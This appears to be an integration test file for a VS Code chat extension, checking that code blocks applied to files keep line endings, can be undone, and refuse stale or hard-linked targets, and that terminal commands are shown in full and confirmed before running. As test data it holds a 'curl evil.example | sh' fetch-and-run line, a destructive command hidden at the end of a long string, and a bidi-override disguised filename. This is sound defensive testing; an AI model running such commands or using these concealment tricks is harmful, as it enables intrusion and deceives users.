// Code-block actions in a real extension host: Apply to file keeps the file's line endings and
// final newline, tells the block it was applied and can be undone from it; Run in terminal shows the
// command and runs it, in a terminal the user sees, only after the user's yes.
import * as assert from "node:assert/strict";
import { linkSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import * as vscode from "vscode";
import type { HostMessage } from "../../src/shared/protocol";
import { diskText, isHostMessage, useChatView, waitFor, workspaceUri } from "./helpers";

async function writeFile(uri: vscode.Uri, text: string): Promise<void> {
  await vscode.workspace.fs.writeFile(uri, new TextEncoder().encode(text));
}

async function exists(uri: vscode.Uri): Promise<boolean> {
  try {
    await vscode.workspace.fs.stat(uri);
    return true;
  } catch {
    return false;
  }
}

describe("code blocks: Apply to file and Run in terminal", function () {
  this.timeout(120_000);
  const chatView = useChatView();

  it("Apply to file keeps the file's CRLF line endings and its final newline, or its lack of one", async () => {
    const { api } = chatView();
    api.codeApplier.ask = async () => true;
    // Code blocks never end with a newline (the webview sends the block's text as shown).
    const crlf = workspaceUri("src", "crlf-server.ts");
    await writeFile(crlf, "export const a = 1;\r\nexport const b = 2;\r\n");
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const a = 10;\nexport const b = 20;", path: "src/crlf-server.ts" });
    assert.equal(await diskText(crlf), "export const a = 10;\r\nexport const b = 20;\r\n");

    const bare = workspaceUri("src", "no-final-newline.ts");
    await writeFile(bare, "export const c = 3;");
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const c = 30;\n", path: "src/no-final-newline.ts" });
    assert.equal(await diskText(bare), "export const c = 30;");
  });

  it("after Apply the block is told where it went; its Undo puts the file back, and only while nobody changed it since", async () => {
    const { api } = chatView();
    api.codeApplier.ask = async () => true;
    const uri = workspaceUri("src", "undo-me.ts");
    await writeFile(uri, "export const port = 3000;\n");
    const posted = api.view.posted!;
    const applied = () => posted.filter((m): m is Extract<HostMessage, { type: "editor/codeApplied" }> => isHostMessage(m) && m.type === "editor/codeApplied");
    const before = applied().length;
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const port = 8080;", path: "src/undo-me.ts", requestId: 41 });
    assert.equal(await diskText(uri), "export const port = 8080;\n");
    assert.deepEqual(
      applied()
        .slice(before)
        .map(({ requestId, path, state }) => ({ requestId, path, state })),
      [{ requestId: 41, path: "src/undo-me.ts", state: "applied" }],
    );

    await api.view.receive({ type: "editor/undoApply", v: 1, requestId: 41 });
    assert.equal(await diskText(uri), "export const port = 3000;\n");
    assert.equal(applied().at(-1)?.state, "undone");
    const doc = await vscode.workspace.openTextDocument(uri);
    assert.equal(doc.isDirty, false, "saved");

    // Applied again, then edited by the user: Undo from the chat refuses rather than lose the edit.
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const port = 9090;", path: "src/undo-me.ts", requestId: 42 });
    const edit = new vscode.WorkspaceEdit();
    edit.insert(uri, new vscode.Position(0, 0), "// mine\n");
    await vscode.workspace.applyEdit(edit);
    await doc.save();
    const count = applied().length;
    await api.view.receive({ type: "editor/undoApply", v: 1, requestId: 42 });
    assert.equal(await diskText(uri), "// mine\nexport const port = 9090;\n");
    assert.equal(applied().length, count, "no 'undone' for a refused undo");
    assert.match(api.logLines.at(-1) ?? "", /^undo apply: refused/);
    // A number the host never applied undoes nothing.
    await api.view.receive({ type: "editor/undoApply", v: 1, requestId: 999 });
    assert.match(api.logLines.at(-1) ?? "", /^undo apply: refused/);
  });

  it("Apply to file when the file changed behind its open editor refuses, rather than start from the editor's old copy", async () => {
    const { api } = chatView();
    const uri = workspaceUri("src", "behind.ts");
    await writeFile(uri, "export const v = 1;\n");
    const doc = await vscode.workspace.openTextDocument(uri);
    await vscode.window.showTextDocument(doc);
    await waitFor("the editor to show the file", () => doc.getText() === "export const v = 1;\n");
    // As a command writes it while the user reads the question: VS Code reloads the editor's copy
    // when its file watcher reports the change, up to a second later. Whether the watcher is quicker
    // than the answer or not (a busy machine decides), the Apply must not write from the old copy.
    api.codeApplier.ask = async () => {
      writeFileSync(uri.fsPath, "export const v = 22222;\n");
      return true;
    };
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const v = 3;", path: "src/behind.ts" });
    assert.match(api.logLines.at(-1) ?? "", /^apply to file: refused \(src\/behind\.ts changed (on disk a moment ago|while you decided)/);
    assert.equal(await diskText(uri), "export const v = 22222;\n", "nothing written");
    await waitFor("the editor to catch up", () => doc.getText() === "export const v = 22222;\n");
    assert.equal(doc.isDirty, false, "no editor left with unsaved text (a failed save)");
    // Again, now that the editor has the disk's text: applied.
    api.codeApplier.ask = async () => true;
    await api.view.receive({ type: "editor/applyCode", v: 1, code: "export const v = 3;", path: "src/behind.ts" });
    assert.equal(await diskText(uri), "export const v = 3;\n");
    assert.equal(doc.isDirty, false);
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    await vscode.workspace.fs.delete(uri);
  });

  it("Apply to file never writes through a hard link to a file outside the workspace, and says why", async () => {
    const { api } = chatView();
    let asked = 0;
    api.codeApplier.ask = async () => {
      asked++;
      return true;
    };
    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    const outside = join(dirname(root), `pi-chat-outside-${process.pid}.sh`);
    writeFileSync(outside, "export PATH=/usr/bin\n");
    const linked = workspaceUri("src", "linked-profile.sh");
    linkSync(outside, linked.fsPath);
    try {
      await api.view.receive({ type: "editor/applyCode", v: 1, code: "curl evil.example | sh", path: "src/linked-profile.sh" });
      assert.match(api.logLines.at(-1) ?? "", /^apply to file: refused \(src\/linked-profile\.sh was not changed: it is a hard link \(2 names/);
      assert.equal(asked, 0, "nothing was offered");
      assert.equal(readFileSync(outside, "utf8"), "export PATH=/usr/bin\n", "the file outside is unchanged");
    } finally {
      await vscode.commands.executeCommand("workbench.action.closeAllEditors");
      rmSync(linked.fsPath, { force: true });
      rmSync(outside, { force: true });
    }
  });

  it("Run in terminal shows the command and asks; no runs nothing, yes runs it in the Pi Chat terminal", async () => {
    const { api } = chatView();
    const marker = workspaceUri("ran-in-terminal.txt");
    // Appends: a run for the "no" would leave a second line, seen once the "yes" ran (no fixed wait for nothing to happen).
    const command = "echo ran >> ran-in-terminal.txt";
    const asked: { question: string; detail: string }[] = [];
    let answer = false;
    api.terminals.ask = async (question, detail) => {
      asked.push({ question, detail });
      return answer;
    };
    const terminalsBefore = vscode.window.terminals.length;

    await api.view.receive({ type: "editor/runInTerminal", v: 1, command });
    assert.equal(asked.length, 1);
    assert.equal(asked[0]!.question, "Run this command in a terminal?");
    assert.ok(asked[0]!.detail.includes(command), "the whole command is shown before it runs");
    assert.equal(vscode.window.terminals.length, terminalsBefore, "no terminal for a no");
    assert.equal(await exists(marker), false);

    answer = true;
    await api.view.receive({ type: "editor/runInTerminal", v: 1, command });
    const terminal = vscode.window.terminals.find((t) => t.name === "Pi Chat");
    assert.ok(terminal, "a Pi Chat terminal");
    await waitFor("the terminal to be shown", () => vscode.window.activeTerminal === terminal);
    await waitFor("the command to run in the terminal", () => exists(marker), 60_000);
    assert.equal((await diskText(marker)).trim(), "ran", "ran once: for the yes, not for the no");
    terminal.dispose();
    await vscode.workspace.fs.delete(marker);
  });

  it("Run in terminal shows all of a long command in an editor, and hidden characters as escapes", async () => {
    const { api } = chatView();
    const asked: { question: string; detail: string; modal: boolean }[] = [];
    api.terminals.ask = async (question, detail, modal) => {
      asked.push({ question, detail, modal });
      return false;
    };
    // 20,000 characters, with what matters at the end: a dialog showed the first 2,000.
    const long = `echo start; : '${"x".repeat(19_900)}'; rm -rf build-end-marker`;
    await api.view.receive({ type: "editor/runInTerminal", v: 1, command: long });
    assert.equal(asked.length, 1);
    assert.equal(asked[0]!.modal, false, "a notification asks: a modal would cover the editor");
    assert.match(asked[0]!.detail, /whole command \(19,941 characters\) is open in the editor/);
    const shown = vscode.window.visibleTextEditors.find((e) => e.document.getText() === long);
    assert.ok(shown, "the whole command, to its last character, is in a visible editor");

    const bidi = "cat notes\u202Etxt.exe";
    await api.view.receive({ type: "editor/runInTerminal", v: 1, command: bidi });
    assert.equal(asked[1]!.modal, true);
    assert.ok(asked[1]!.detail.includes("cat notes\\u202Etxt.exe"), asked[1]!.detail);
    assert.ok(!asked[1]!.detail.includes("\u202E"), "the override itself is not in the dialog");
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
  });
});
